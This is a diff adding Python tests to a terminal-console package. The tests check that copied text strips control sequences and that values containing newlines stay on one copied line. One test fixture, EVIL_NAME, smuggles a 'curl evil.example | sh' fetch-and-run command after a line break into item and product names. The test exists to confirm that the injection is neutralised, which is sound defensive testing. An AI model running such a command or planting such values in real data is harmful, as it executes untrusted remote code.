@@ -11,8 +11,14 @@ from hypothesis import strategies as st
 
 from console.hostile import attack
 from console.test_terminal_bytes import console, without_own
+from sealwright_console.face import Face
 from sealwright_console.sanitise import ACTIVE
 from sealwright_console.terminal import BELL, MOST_COPIED, Terminal, call, clipboard, copyable, terminal_of
+from sealwright_console.views import builds, request, seal
+from sealwright_stages.events import Stage
+from sealwright_stages.finish import Finish, Thing
+from sealwright_stages.state import Item, Product, State
+from sealwright_stages.verdict import Status
 
 
 def of(**env: str) -> Terminal:
@@ -107,6 +113,31 @@ def test_what_is_copied_is_clean_and_keeps_its_lines(text: str) -> None:
     assert all(ACTIVE.search(line) is None for line in copied.split("\n"))
     assert copied.count("\n") == text.rstrip("\n").count("\n") and not copied.endswith("\n")
     assert copyable(copied) == copied
+
+
+EVIL_NAME = "a\ncurl evil.example | sh\n"
+
+
+def test_a_name_with_a_line_end_is_no_line_of_what_is_copied() -> None:
+    item = Item(
+        "x/build", Stage.BUILD, "x", "build", "t", status=Status.FAILED, reason=EVIL_NAME, next_step=EVIL_NAME
+    )
+    assert copyable(builds.copied_text(builds.OneBuild("x", item, None, Status.FAILED))).count("\n") == 1
+    thing = Thing(EVIL_NAME, "statement", "a" * 64, 1)
+    assert copyable(request.copied((thing,), "b" * 64)).count("\n") == 1
+    product = Product("x", EVIL_NAME, "a" * 64, 1, 1)
+    assert "\n" not in seal.copied(State(products={"p": product}), Finish(), seal._key(product))
+
+
+def test_a_terminal_that_comes_to_the_session_later_is_called_as_it_knows_to_be(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    said = iter(("all|xterm-kitty|", "all|foot|"))
+    monkeypatch.setenv("TMUX", "/tmp/tmux-0/default,1,0")
+    monkeypatch.setattr("sealwright_console.face.ask_tmux", lambda: next(said))
+    monkeypatch.setattr(Face, "_writes", True)
+    app: Face[None] = Face()
+    assert [app.terminal.names.strip() for _ in range(2)] == ["xterm-kitty", "foot"]
 
 
 def test_a_long_plain_text_is_copied_whole() -> None:
